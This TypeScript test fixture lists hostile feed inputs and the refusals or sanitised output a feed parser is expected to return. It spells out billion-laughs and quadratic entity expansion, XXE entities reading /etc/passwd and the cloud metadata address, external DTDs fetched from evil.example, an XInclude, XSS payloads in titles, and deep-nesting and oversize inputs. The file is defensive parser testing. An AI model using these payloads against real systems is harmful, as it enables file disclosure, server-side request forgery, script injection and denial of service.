import { MAX_FEED_ITEMS } from '../limits';
import { atom, item, jsonFeed, rss, SITE } from './build';
import type { FeedCase } from './feedCase';

const titled = (title: string) => rss(`<item><title>${title}</title><link>${SITE}/1</link></item>`);
const LAUGHS = Array.from({ length: 9 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join('');
const DECLARES = { refused: 'declares entities' };
const MANY = Array.from({ length: MAX_FEED_ITEMS }, (_, at) => `خبر ${at} /${at}`);
const numbered = (count: number, more = '') => Array.from({ length: count }, (_, at) => item(at, more)).join('');

/** Feeds that want to be expanded, to fetch something, to be shown as markup, or to keep the machine busy. */
export const ATTACK_FEEDS: readonly FeedCase[] = [
  { name: 'a billion laughs', content: `<!DOCTYPE rss [<!ENTITY l0 "ha">${LAUGHS}]>${titled('&l9;')}`, gives: DECLARES },
  { name: 'a quadratic blow-up', content: `<!DOCTYPE rss [<!ENTITY a "${'a'.repeat(50_000)}">]>${titled('&a;'.repeat(50_000))}`, gives: DECLARES },
  { name: 'an external entity of a file', content: `<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>${titled('&x;')}`, gives: DECLARES },
  { name: 'an external entity of the metadata service', content: `<!DOCTYPE rss [<!ENTITY x SYSTEM "http://169.254.169.254/">]>${titled('&x;')}`, gives: DECLARES },
  { name: 'a parameter entity', content: `<!DOCTYPE rss [<!ENTITY % x SYSTEM "http://evil.example/x.dtd">%x;]>${titled('1')}`, gives: DECLARES },
  { name: 'an external document type', content: `<!DOCTYPE rss SYSTEM "http://evil.example/x.dtd">${titled('1')}`, gives: { refused: 'external file' } },
  { name: 'entities in the type of a web page', content: `<!DOCTYPE html [<!ENTITY x "boom">]>${titled('&x;')}`, gives: { refused: 'document type cannot be read' } },
  { name: 'entities of Atom', content: `<!DOCTYPE feed [<!ENTITY x "boom">]>${atom('')}`, gives: DECLARES },
  { name: 'entities declared in lower case, after a warning', content: `x <?xml version="1.0"?><!doctype rss [<!entity x "y">]>${titled('&x;')}`, gives: DECLARES },
  { name: 'an inclusion', content: rss(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>${item(1)}`), gives: ['خبر 1 /1'] },
  { name: 'a script in a title', content: titled('<![CDATA[<script>alert(1)</script><img src=x onerror=alert(1)>خبر]]>'), gives: ['خبر /1'] },
  { name: 'a script escaped twice', content: titled('&amp;lt;script&amp;gt;alert(1)'), gives: ['<script>alert(1) /1'] },
  { name: 'ten thousand items', content: rss(numbered(10_000)), gives: MANY },
  { name: 'ten thousand items with much in each', content: rss(numbered(10_000, '<category>a</category>'.repeat(12))), gives: MANY },
  { name: 'ten thousand items of JSON', content: jsonFeed(Array.from({ length: 10_000 }, (_, at) => ({ id: `${at}`, url: `/${at}`, title: `خبر ${at}` }))), gives: MANY },
  { name: 'ten thousand addresses in a sitemap', content: `<urlset>${Array.from({ length: 10_000 }, (_, at) => `<url><loc>/${at}</loc><n:news><n:title>خبر ${at}</n:title></n:news></url>`).join('')}</urlset>`, gives: MANY },
  { name: 'elements in elements', content: rss('<a>'.repeat(50_000)), gives: { refused: 'nested' } },
  { name: 'items in items', content: rss('<item>'.repeat(50_000)), gives: { refused: 'nested' } },
  { name: 'CDATA in CDATA', content: titled('<!-- <![CDATA[ -->'.repeat(1000)), gives: { refused: 'CDATA sections open inside' } },
  { name: 'one element with more tags than a feed has', content: titled('<b>'.repeat(200_001)), gives: { refused: 'more than 200000 tags' } },
  { name: 'lists in lists of JSON', content: `{"version":"https://jsonfeed.org/version/1.1","items":${'['.repeat(100_000)}`, gives: { refused: 'broken' } },
  { name: 'nine megabytes', content: titled('x'.repeat(9 * 1024 * 1024)), gives: { refused: 'larger than 8 MB' } },
]; // prettier-ignore
